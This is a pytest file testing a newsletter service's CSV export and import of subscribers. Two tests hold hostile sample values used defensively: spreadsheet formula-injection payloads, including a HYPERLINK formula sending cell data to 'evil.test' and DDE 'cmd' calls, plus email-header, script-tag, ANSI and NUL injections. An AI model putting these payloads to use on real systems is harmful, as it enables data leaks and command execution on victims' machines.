"""The publisher's tools: ``subscribers export`` and ``subscribers import`` as CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from sqlalchemy import delete, func, select
from support.web import Visitor, statements

from auth_service.extensions import db
from auth_service.models import Newsletter, NewsletterConsent, Reader
from auth_service.newsletter import subscriptions
from auth_service.newsletter.subscribers import EXPORT_COLUMNS, MAX_ROW_LENGTH
from auth_service.newsletter.subscribers_cli import subscribers_group

FORMULA_START = re.compile(r"[=+\-@\t\r]")


@pytest.fixture
def cli(app, runner):
    """The command line, with the ``subscribers`` commands (once ``cli.init_app`` has them,
    this adds nothing)."""
    if "subscribers" not in app.cli.commands:
        app.cli.add_command(subscribers_group)
    return runner


@pytest.fixture
def weekly(app):
    """A second newsletter; removed afterwards, as the PostgreSQL database is shared."""
    letter = Newsletter(slug="weekly", name_fr="La semaine", name_en="The week", cadence="weekly")
    db.session.add(letter)
    db.session.commit()
    letter_id = letter.id
    yield letter
    db.session.rollback()
    db.session.execute(
        delete(NewsletterConsent).where(NewsletterConsent.newsletter_id == letter_id)
    )
    db.session.execute(delete(Newsletter).where(Newsletter.id == letter_id))
    db.session.commit()


def account(
    email: str,
    letters: tuple[str, ...] = ("daily",),
    *,
    withdrawn: tuple[str, ...] = (),
    wording: str = "Send me the daily front page newsletter.",
    source: str = "/articles/un-article",
) -> Reader:
    """A reader subscribed to ``letters``, who then left ``withdrawn``."""
    person = Reader(email=email)
    db.session.add(person)
    db.session.commit()
    for slug in letters:
        subscriptions.subscribe(
            person, subscriptions.newsletter(slug), wording=wording, source=source
        )
    for slug in withdrawn:
        subscriptions.unsubscribe(person, subscriptions.newsletter(slug))
    db.session.commit()
    return person


def write(tmp_path, text: str | bytes, name: str = "list.csv") -> str:
    """Write an import file (text as UTF-8) and return its path."""
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return str(path)


def export(cli, *args: str) -> tuple[str, list[list[str]]]:
    """Run the export to standard output: the raw CSV and its rows, header first."""
    result = cli.invoke(args=["subscribers", "export", *args])
    assert result.exit_code == 0, result.output
    return result.stdout, list(csv.reader(io.StringIO(result.stdout)))


def import_file(cli, path: str, *args: str):
    """Run the import of ``path``."""
    return cli.invoke(args=["subscribers", "import", path, *args])


def snapshot() -> tuple[list, list]:
    """Every reader and every consent row, to prove that nothing changed."""
    db.session.expire_all()
    readers = db.session.execute(select(Reader.id, Reader.email).order_by(Reader.id)).all()
    consents = db.session.execute(
        select(
            NewsletterConsent.id,
            NewsletterConsent.reader_id,
            NewsletterConsent.newsletter_id,
            NewsletterConsent.consented_at,
            NewsletterConsent.withdrawn_at,
            NewsletterConsent.wording,
            NewsletterConsent.source,
        ).order_by(NewsletterConsent.id)
    ).all()
    return readers, consents


def is_subscribed(email: str, slug: str = "daily") -> bool:
    """Whether the reader with this address receives the newsletter."""
    db.session.expire_all()
    person = db.session.scalar(select(Reader).where(Reader.email == email))
    return (
        person is not None
        and subscriptions.open_consent(person, subscriptions.newsletter(slug)) is not None
    )


def reader_named(email: str) -> Reader | None:
    """The reader with this address, if there is one."""
    return db.session.scalar(select(Reader).where(Reader.email == email))


# --- Export -----------------------------------------------------------------------------


def test_export_after_sign_ups_has_the_columns_and_one_row_per_consent(app, cli, reader):
    reader.sign_in("ana@example.com", newsletter=True, next_url="/articles/un-article")
    Visitor(app, app.test_client()).sign_in("ben@example.com", newsletter=True)
    Visitor(app, app.test_client()).sign_in("no-newsletter@example.com")
    subscriptions.unsubscribe(reader_named("ben@example.com"), subscriptions.newsletter("daily"))
    db.session.commit()

    _, rows = export(cli)

    assert tuple(rows[0]) == EXPORT_COLUMNS
    by_email = {row[0]: dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in rows[1:]}
    assert set(by_email) == {"ana@example.com", "ben@example.com"}
    ana, ben = by_email["ana@example.com"], by_email["ben@example.com"]
    assert ana["newsletter"] == "daily" and ana["subscribed"] == "true"
    assert ana["source"] == "/articles/un-article" and ana["withdrawn_at"] == ""
    assert "La Une du jour" in ana["wording"]  # the French wording the reader saw
    assert ana["consented_at"].endswith("Z")
    consented = datetime.fromisoformat(ana["consented_at"])
    assert consented.tzinfo is not None and consented <= datetime.now(UTC)
    assert ben["subscribed"] == "false" and ben["withdrawn_at"].endswith("Z")


def test_export_keeps_only_the_latest_consent_of_each_newsletter(app, cli, weekly):
    person = account("back@example.com", ("daily", "weekly"), withdrawn=("daily",))
    subscriptions.subscribe(
        person, subscriptions.newsletter("daily"), wording="Again, please.", source="preferences"
    )
    db.session.commit()

    _, rows = export(cli)

    assert [row[:3] for row in rows[1:]] == [
        ["back@example.com", "daily", "true"],
        ["back@example.com", "weekly", "true"],
    ]
    assert rows[1][4] == "Again, please." and rows[1][5] == "preferences"


def test_export_to_a_file_of_one_newsletter(app, cli, weekly, tmp_path):
    account("daily-only@example.com", ("daily",))
    account("weekly-only@example.com", ("weekly",))
    path = tmp_path / "weekly.csv"

    result = cli.invoke(
        args=["subscribers", "export", "--newsletter", "weekly", "--output", str(path)]
    )

    assert result.exit_code == 0, result.output
    assert "1 rows written" in result.stderr
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert [row[:2] for row in rows[1:]] == [["weekly-only@example.com", "weekly"]]


def test_export_that_fails_says_why_and_leaves_no_file(cli, tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    result = cli.invoke(
        args=["subscribers", "export", "--newsletter", "nope", "--output", str(folder / "x.csv")]
    )
    assert result.exit_code != 0
    assert "no newsletter 'nope'" in result.output and "daily" in result.output
    assert list(folder.iterdir()) == []
    result = cli.invoke(args=["subscribers", "export", "-o", str(tmp_path / "missing" / "x.csv")])
    assert result.exit_code != 0 and "cannot write" in result.output
    assert "Traceback" not in result.output


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(app, cli):
    account(
        "-2+3@example.com",
        wording='=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
        source="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    account("plus@example.com", wording="+cmd|' /C calc'!A0", source="\t=1+1")

    raw, rows = export(cli)

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if FORMULA_START.match(cell)]
    by_email = {row[0]: row for row in rows[1:]}
    formula = by_email["'-2+3@example.com"]
    assert formula[4] == '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
    assert formula[5] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_email["plus@example.com"][4:6] == ["'+cmd|' /C calc'!A0", "'\t=1+1"]
    assert "\n=" not in raw and "\n-" not in raw


# --- Import -----------------------------------------------------------------------------


def test_import_of_a_mailchimp_export_applies_each_status(app, cli, tmp_path):
    account("stays@example.com")
    account("leaves@example.com")
    account("bounced@example.com")
    path = write(
        tmp_path,
        "Email Address;First Name;Last Name;Status\n"
        "new@example.com;Ana;Lima;subscribed\n"
        "Stays@Example.com;Ben;;subscribed\n"
        "leaves@example.com;Cleo;;unsubscribed\n"
        "bounced@example.com;Dan;;cleaned\n"
        "stranger@example.com;Eve;;unsubscribed\n"
        "pending@example.com;Fay;;pending\n",
        name="mailchimp.csv",
    )

    result = import_file(cli, path)

    assert result.exit_code == 0, result.output
    assert "line 7: status 'pending' is neither subscribed nor unsubscribed" in result.output
    assert "1 subscribed (1 new readers), 2 unsubscribed, 2 unchanged, 1 rejected" in result.output
    assert is_subscribed("new@example.com") and is_subscribed("stays@example.com")
    assert not is_subscribed("leaves@example.com") and not is_subscribed("bounced@example.com")
    # Addresses that never consented leave nothing behind.
    assert reader_named("stranger@example.com") is None
    assert reader_named("pending@example.com") is None
    consent = reader_named("new@example.com").consents[0]
    assert consent.wording == "Imported from mailchimp.csv" and consent.source == "import"
    assert consent.newsletter.slug == "daily" and consent.withdrawn_at is None
    assert reader_named("new@example.com").last_sign_in_at is None


def test_import_without_a_flag_column_subscribes_every_row(cli, tmp_path):
    path = write(tmp_path, "E-mail\none@example.com\ntwo@example.com\n")
    result = import_file(cli, path)
    assert result.exit_code == 0, result.output
    assert "2 subscribed (2 new readers), 0 unsubscribed, 0 unchanged, 0 rejected" in result.output
    assert is_subscribed("one@example.com") and is_subscribed("two@example.com")


@pytest.mark.parametrize(
    "header",
    ["email", "Email Address", "E-mail", "email_address", "EMAIL", " Email ", "Courriel"],
)
def test_import_recognises_the_usual_names_of_the_email_column(cli, tmp_path, header):
    path = write(tmp_path, f"{header},opt_in\nnamed@example.com,1\n")
    result = import_file(cli, path)
    assert result.exit_code == 0, result.output
    assert is_subscribed("named@example.com")


@pytest.mark.parametrize(
    ("value", "subscribed"),
    [
        ("true", True), ("YES", True), ("1", True), ("Subscribed", True), ("active", True),
        ("false", False), ("no", False), ("0", False), ("unsubscribed", False),
        ("cleaned", False), ("Opted out", False),
    ],
)  # fmt: skip
def test_import_reads_the_usual_flag_values(app, cli, tmp_path, value, subscribed):
    account("flag@example.com", withdrawn=("daily",))
    account("flag-on@example.com")
    path = write(
        tmp_path, f"email,subscribed\nflag@example.com,{value}\nflag-on@example.com,{value}\n"
    )
    result = import_file(cli, path)
    assert result.exit_code == 0, result.output
    assert is_subscribed("flag@example.com") is subscribed
    assert is_subscribed("flag-on@example.com") is subscribed


def test_import_reads_utf8_with_a_bom_and_windows_line_ends(cli, tmp_path):
    path = write(
        tmp_path, "\ufeffEmail,Subscribed\r\nbom@example.com,yes\r\nbom2@example.com,no\r\n"
    )
    result = import_file(cli, path)
    assert result.exit_code == 0, result.output
    assert "1 subscribed (1 new readers), 0 unsubscribed, 1 unchanged, 0 rejected" in result.output
    assert is_subscribed("bom@example.com")


def test_import_reads_semicolons_and_quoted_cells(cli, tmp_path):
    path = write(
        tmp_path,
        'email;"Full name";status\n'
        '"semi@example.com";"Lima; Ana";"subscribed"\n'
        'colon@example.com;"Say ""hi""";active\n',
    )
    result = import_file(cli, path)
    assert result.exit_code == 0, result.output
    assert "0 rejected" in result.output
    assert is_subscribed("semi@example.com") and is_subscribed("colon@example.com")


def test_import_normalises_unicode_addresses_and_finds_existing_readers(app, cli, tmp_path):
    account("zoé@example.com", withdrawn=("daily",))
    path = write(
        tmp_path,
        "email,subscribed\n"
        "José@Exämple.FR,yes\n"
        "ZOÉ@EXAMPLE.COM,yes\n"
        "用户@例子.广告,yes\n"
        "  spaced@example.com  ,yes\n",
    )
    result = import_file(cli, path)
    assert result.exit_code == 0, result.output
    assert "4 subscribed (3 new readers), 0 unsubscribed, 0 unchanged, 0 rejected" in result.output
    for address in ["josé@exämple.fr", "zoé@example.com", "用户@例子.广告", "spaced@example.com"]:
        assert is_subscribed(address), address
    assert db.session.scalar(select(func.count(Reader.id))) == 4


def test_import_rejects_hostile_rows_by_line_and_keeps_the_rest(cli, tmp_path):
    rows = [
        "email,First Name,subscribed",  # line 1
        "\"=cmd|' /C calc'!A0\",x,yes",  # 2
        'ok@example.com,"=HYPERLINK(""http://evil.test"",""click"")",yes',  # 3
        "\"@SUM(1+1)*cmd|' /C calc'!A0\",,yes",  # 4
        '"evil@example.com\r\nBcc: victim@example.com",,yes',  # 5 (two lines)
        "ansi@example.com,,\x1b[31mred\x1b[0m",  # 7
        "nul\x00@example.com,,yes",  # 8
        "<script>alert(1)</script>@example.com,,yes",  # 9
        ",no address,yes",  # 10
        "short@example.com",  # 11: no flag cell
        "after@example.com,,yes",  # 12
    ]
    path = write(tmp_path, "\n".join(rows) + "\n")

    result = import_file(cli, path)

    assert result.exit_code == 0, result.output
    rejected = dict(re.findall(r"^line (\d+): (.*)$", result.output, re.MULTILINE))
    assert set(rejected) == {"2", "4", "5", "7", "8", "9", "10", "11"}
    assert rejected["2"].startswith("not an email address: ")
    assert rejected["7"].startswith("unknown subscribed value '\\x1b[31mred")
    assert rejected["10"] == "no address" and rejected["11"] == "no subscribed value"
    assert "\x1b" not in result.output and "\x00" not in result.output
    assert "2 subscribed (2 new readers), 0 unsubscribed, 0 unchanged, 8 rejected" in result.output
    assert is_subscribed("ok@example.com") and is_subscribed("after@example.com")
    assert db.session.scalar(select(func.count(Reader.id))) == 2


def test_import_rejects_oversize_rows_and_reads_on(cli, tmp_path):
    huge = "x" * (MAX_ROW_LENGTH + 10)
    text = (
        "email,notes,subscribed\n"  # 1
        f"long-line@example.com,{huge},yes\n"  # 2
        f'long-row@example.com,"{huge[:40_000]}\n{huge[:40_000]}",yes\n'  # 3-4
        "fine@example.com,,yes\n"  # 5
        f"{'a' * 300}@example.com,,yes\n"  # 6
        f"{'b' * 70}@example.com,,yes\n"  # 7
        f"no-newline-at-the-end@example.com,{huge * 3}"  # 8
    )
    result = import_file(cli, write(tmp_path, text))
    assert result.exit_code == 0, result.output
    assert "line 2: row too long (over 65,536 characters)" in result.output
    assert "line 3: row too long" in result.output
    assert "line 6: address too long" in result.output
    assert "line 7: address too long before the @" in result.output
    assert "line 8: row too long" in result.output
    assert "1 subscribed (1 new readers), 0 unsubscribed, 0 unchanged, 5 rejected" in result.output
    assert is_subscribed("fine@example.com")
    assert len(result.output) < 2_000


def test_import_counts_each_address_once_and_names_the_first_line(cli, tmp_path):
    path = write(
        tmp_path,
        "email,subscribed\n"
        "dup@example.com,yes\n"
        "other@example.com,yes\n"
        " DUP@Example.com,no\n"
        "dup@example.com,yes\n",
    )
    result = import_file(cli, path)
    assert result.exit_code == 0, result.output
    assert "line 4: duplicate of line 2 (dup@example.com)" in result.output
    assert "line 5: duplicate of line 2 (dup@example.com)" in result.output
    assert "2 subscribed (2 new readers), 0 unsubscribed, 0 unchanged, 2 rejected" in result.output
    assert is_subscribed("dup@example.com")


def test_a_file_without_an_email_column_is_refused_and_changes_nothing(app, cli, tmp_path):
    account("kept@example.com")
    before = snapshot()
    path = write(tmp_path, "name;status\nAna;subscribed\n", name="names.csv")
    result = import_file(cli, path)
    assert result.exit_code != 0
    assert "names.csv: no email column" in result.output
    assert "'name', 'status'" in result.output and "nothing was imported" in result.output
    assert snapshot() == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"\n\n", "the file is empty"),
        ("email,subscribed\nfirst@example.com,yes\nlatin@example.com,oui é\n".encode("latin-1"),
         "line 3 is not UTF-8"),
        (b"email,email address\na@example.com,b@example.com\n", "two email columns"),
        (b"x" * (MAX_ROW_LENGTH + 1) + b"\nemail\na@example.com\n", "too long to be the header"),
    ],
)  # fmt: skip
def test_a_file_that_cannot_be_read_is_refused_and_changes_nothing(
    app, cli, tmp_path, content, message
):
    before = snapshot()
    result = import_file(cli, write(tmp_path, content))
    assert result.exit_code != 0
    assert message in result.output and "nothing was imported" in result.output
    assert "Traceback" not in result.output
    assert snapshot() == before


def test_import_into_an_unknown_newsletter_is_refused(cli, tmp_path):
    result = import_file(cli, write(tmp_path, "email\na@example.com\n"), "--newsletter", "nope")
    assert result.exit_code != 0 and "no newsletter 'nope'" in result.output
    assert reader_named("a@example.com") is None


def test_dry_run_counts_but_changes_nothing(app, cli, tmp_path):
    account("leaves@example.com")
    account("stays@example.com")
    before = snapshot()
    path = write(
        tmp_path,
        "Email Address;Status\n"
        "new@example.com;subscribed\n"
        "leaves@example.com;unsubscribed\n"
        "stays@example.com;subscribed\n"
        "bad address;subscribed\n",
    )

    result = import_file(cli, path, "--dry-run")

    assert result.exit_code == 0, result.output
    assert "line 5: not an email address: 'bad address'" in result.output
    assert (
        "Dry run, nothing changed. Would be: 1 subscribed (1 new readers), 1 unsubscribed, "
        "1 unchanged, 1 rejected." in result.output
    )
    assert snapshot() == before


def test_an_export_imported_back_changes_nothing(app, cli, weekly, tmp_path, reader):
    reader.sign_in("signed-up@example.com", newsletter=True)
    account("left@example.com", ("daily", "weekly"), withdrawn=("daily",))
    account("-2+3@example.com", wording="=1+1", source="@import")
    account("'=quoted@example.com", ("weekly",), wording="'=already quoted")
    account("josé@exämple.fr", wording='Say "oui",\nthen go; please')
    back = account("back@example.com", withdrawn=("daily",))
    subscriptions.subscribe(back, subscriptions.newsletter("daily"), wording="x", source="y")
    db.session.commit()
    first, rows = export(cli)
    assert len(rows) == 1 + 7
    before = snapshot()
    path = tmp_path / "export.csv"
    path.write_text(first, encoding="utf-8")

    result = import_file(cli, str(path), "--newsletter", "weekly")

    assert result.exit_code == 0, result.output
    assert "0 subscribed (0 new readers), 0 unsubscribed, 7 unchanged, 0 rejected" in result.output
    assert snapshot() == before
    assert export(cli)[0] == first


def test_a_newsletter_column_sends_each_row_to_its_newsletter(app, cli, weekly, tmp_path):
    path = write(
        tmp_path,
        "email,newsletter,subscribed\n"
        "both@example.com,daily,true\n"
        "both@example.com,weekly,true\n"
        "weekly@example.com,,true\n"
        "odd@example.com,monthly,true\n",
    )
    result = import_file(cli, path, "--newsletter", "weekly")
    assert result.exit_code == 0, result.output
    assert "line 5: unknown newsletter 'monthly'" in result.output
    assert "3 subscribed (2 new readers)" in result.output
    assert is_subscribed("both@example.com", "daily")
    assert is_subscribed("both@example.com", "weekly")
    assert is_subscribed("weekly@example.com", "weekly")
    assert not is_subscribed("weekly@example.com", "daily")


def test_a_large_import_is_done_in_batches_not_a_query_per_row(app, cli, tmp_path):
    for number in range(0, 3000, 3):
        account(f"reader{number}@example.com")
    lines = ["email,subscribed"]
    lines += [f"reader{n}@example.com,{'no' if n % 2 else 'yes'}" for n in range(3000)]
    path = write(tmp_path, "\n".join(lines) + "\n")
    with statements() as sent:
        result = import_file(cli, path)

    assert result.exit_code == 0, result.output
    # Readers 0, 6, 12… stay; 3, 9, 15… leave; even newcomers join; odd ones stay away.
    assert (
        "1000 subscribed (1000 new readers), 500 unsubscribed, 1500 unchanged, 0 rejected"
        in result.output
    )
    assert len(sent) < 60
    assert is_subscribed("reader2@example.com") and not is_subscribed("reader3@example.com")
    assert reader_named("reader1@example.com") is None


def test_import_help_says_what_happens_to_rejected_rows(cli):
    result = cli.invoke(args=["subscribers", "import", "--help"])
    assert result.exit_code == 0
    text = " ".join(result.output.split())
    assert "one transaction" in text and '"line N: reason"' in text and "--dry-run" in text
